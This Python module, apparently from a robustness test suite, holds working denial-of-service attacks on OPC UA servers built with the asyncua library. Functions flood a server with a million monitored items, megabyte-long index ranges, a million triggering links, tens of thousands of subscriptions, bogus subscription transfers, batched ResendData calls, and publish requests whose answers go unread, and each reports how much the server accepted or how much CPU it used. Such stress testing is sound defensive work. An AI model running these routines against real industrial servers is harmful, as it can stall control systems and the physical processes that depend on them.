"""Attacks by subscriptions and their items."""

import contextlib
import struct
import time
from typing import Any

from asyncua import ua
from asyncua.ua.ua_binary import struct_to_binary
from raw_client import RawClient, Refused, status_name
from target import LEVEL, Target, refused_with

SERVER, RESEND_DATA = ua.NodeId(2253, 0), ua.NodeId(12873, 0)


def _subscribe(
    client: RawClient, interval_ms: float = 1000.0, lifetime: int = 2**32 - 1
) -> int:
    request = ua.CreateSubscriptionRequest()
    request.Parameters = ua.CreateSubscriptionParameters(
        RequestedPublishingInterval=interval_ms,
        RequestedLifetimeCount=lifetime,
        RequestedMaxKeepAliveCount=lifetime // 3,
        PublishingEnabled=True,
    )
    return struct.unpack_from("<I", client.request(request))[0]


def _monitor(subscription: int, count: int, queue: int = 2**32 - 1) -> bytes:
    """The body of a request, without its header and authentication token."""
    wanted = ua.MonitoredItemCreateRequest(
        ItemToMonitor=ua.ReadValueId(ua.NodeId(2258, 0), ua.AttributeIds.Value),  # the time
        MonitoringMode=ua.MonitoringMode.Reporting,
        RequestedParameters=ua.MonitoringParameters(SamplingInterval=0.0, QueueSize=queue),
    )
    return struct.pack("<III", subscription, 2, count) + struct_to_binary(wanted) * count


def _add_items(client: RawClient, subscription: int, count: int) -> int:
    """@return how many were made"""
    body = struct.pack("<BBH", 1, 0, 751) + client.header() + _monitor(subscription, count)
    client.send_body(body)
    answer = client.answer()
    (results,) = struct.unpack_from("<i", answer)
    # A result without a filter has 23 bytes.
    good, at = 0, 4
    for _ in range(results):
        good += struct.unpack_from("<I", answer, at)[0] == 0
        at += 23
    return good


def many_items(target: Target) -> str:
    """A million monitored items in ten sessions, which then all close at once."""
    got, clients = 0, [target.client() for _ in range(10)]
    for client in clients:
        with contextlib.suppress(Refused):
            for _ in range(10):
                got += _add_items(client, _subscribe(client), 10_000)
    for client in clients:
        client.request(ua.CloseSessionRequest(DeleteSubscriptions=True))
        client.close()
    return f"{got} of 1000000 made"


def _new_items(client: RawClient, subscription: int, **settings: Any) -> None:
    item = ua.MonitoredItemCreateRequest(
        ItemToMonitor=ua.ReadValueId(NodeId=LEVEL, AttributeId=ua.AttributeIds.Value)
    )
    for name, value in settings.items():
        setattr(item.ItemToMonitor, name, value)
    request = ua.CreateMonitoredItemsRequest()
    request.Parameters.SubscriptionId = subscription
    request.Parameters.ItemsToCreate = [item]
    (status,) = struct.unpack_from("<I", client.request(request), 4)
    if status:
        raise Refused(status_name(status))


def long_texts(target: Target) -> str:
    """Items whose index range is as long as a message may be; the server keeps it with the item."""
    got, outcome, clients = 0, "all made", [target.client() for _ in range(10)]
    for client in clients:
        subscription = _subscribe(client)
        try:
            for _ in range(100):
                _new_items(client, subscription, IndexRange="0:1," * 450_000 + "0:1")
                got += 1
        except Refused as refused:
            outcome = str(refused)
    for client in clients:
        client.close()
    return f"{got} of 1000 made; {outcome}"


def many_links(target: Target) -> str:
    """As many items as a session may have, each of which shall trigger 10 000 others."""
    client = target.client()
    subscription = _subscribe(client)
    for _ in range(2):
        _add_items(client, subscription, 10_000)
    request = ua.SetTriggeringRequest()
    request.Parameters.SubscriptionId = subscription
    request.Parameters.LinksToAdd = list(range(1, 10_001))
    made = 0
    for item in range(1, 101):
        request.Parameters.TriggeringItemId = item
        answer = client.request(request)
        made += struct.unpack_from("<10000I", answer, 4).count(0)
    client.close()
    return f"{made} of 1000000 links"


def many_subscriptions(target: Target) -> str:
    got, clients = 0, [target.client() for _ in range(50)]
    for client in clients:
        with contextlib.suppress(Refused):
            for _ in range(400):
                _subscribe(client)
                got += 1
    for client in clients:
        client.request(ua.CloseSessionRequest(DeleteSubscriptions=True))
        client.close()
    return f"{got} of 20000 made"


def transfer_many(target: Target) -> str:
    """Numbers of subscriptions that do not exist, while a thousand others do."""
    clients = [target.client() for _ in range(26)]
    for client in clients[1:]:
        with contextlib.suppress(Refused):
            for _ in range(40):
                _subscribe(client)
    count = 400_000
    body = struct.pack("<BBH", 1, 0, 841) + clients[0].header() + struct.pack("<i", count)
    body += struct.pack("<I", 2**32 - 1) * count + b"\0"
    result = refused_with(lambda: (clients[0].send_body(body), clients[0].answer()))
    for client in clients:
        client.close()
    return result


def resend_data(target: Target) -> str:
    client = target.client()
    subscription = _subscribe(client)
    for _ in range(5):
        _add_items(client, subscription, 10_000)
    argument = ua.Variant(subscription, ua.VariantType.UInt32)
    call = ua.CallMethodRequest(SERVER, RESEND_DATA, [argument])
    request = ua.CallRequest()
    request.Parameters.MethodsToCall = [call] * 1000
    thousand = refused_with(lambda: client.request(request))
    request.Parameters.MethodsToCall = [call] * 10
    began = time.perf_counter()
    ten = refused_with(lambda: client.request(request))
    took = (time.perf_counter() - began) * 1000
    client.close()
    return f"1000 calls: {thousand}; 10: {ten}, {took:.0f} ms"


def silent_subscriber(target: Target) -> str:
    """50 000 items with the longest queues, and not one publish request for 30 s."""
    client = target.client()
    subscription = _subscribe(client)
    got = sum(_add_items(client, subscription, 10_000) for _ in range(5))
    time.sleep(30)
    client.close()
    return f"{got} items"


def vanished_client(target: Target) -> str:
    """As many items as a session may have, of a client that becomes silent.

    While they live, the server samples them. It asks for 2 s of session and 3 intervals of lifetime.
    """
    client = target.client(session_timeout_ms=2_000)
    subscription = _subscribe(client, lifetime=3)
    got = sum(_add_items(client, subscription, 10_000) for _ in range(2))
    shares, began = [target.cpu_share(1)], time.monotonic()
    while shares[-1] > max(shares) / 4 and time.monotonic() - began < 150:
        shares.append(target.cpu_share(1))
    gone = time.monotonic() - began
    client.close()
    return f"{got} items, {max(shares):.0%} of a core; {shares[-1]:.0%} after {gone:.0f} s"


def unread_notifications(target: Target) -> str:
    """Ten publish requests a second, without reading any answer."""
    client, publish = target.client(receive_buffer=4096), ua.PublishRequest()
    subscription = _subscribe(client, interval_ms=100.0)
    got = sum(_add_items(client, subscription, 10_000) for _ in range(2))
    began = time.monotonic()
    try:
        while time.monotonic() - began < 120:
            client.send(publish)
            time.sleep(0.1)
    except Refused:
        return f"{got} items; connection closed after {time.monotonic() - began:.0f} s"
    client.close()
    return f"{got} items; connection open after 120 s"
